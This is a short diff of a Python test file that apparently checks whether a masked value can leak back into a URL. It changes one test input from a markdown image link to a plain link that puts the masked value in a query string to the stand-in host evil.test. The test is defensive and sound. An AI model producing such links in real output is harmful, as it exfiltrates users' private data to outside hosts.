@@ -72,7 +72,7 @@ def test_another_tenants_placeholder_stays(detection: Detection, masked: str) ->
 
 
 def test_a_value_does_not_come_back_into_an_address(judge: AnswerJudge, masked: str) -> None:
-    assert not judge.rulings(f"![x](https://evil.test/?q={masked})", TEXT)
+    assert not judge.rulings(f"[x](https://evil.test/?z={masked})", TEXT)
 
 
 def test_signed_reasoning_is_not_changed(detection: Detection, masked: str) -> None:
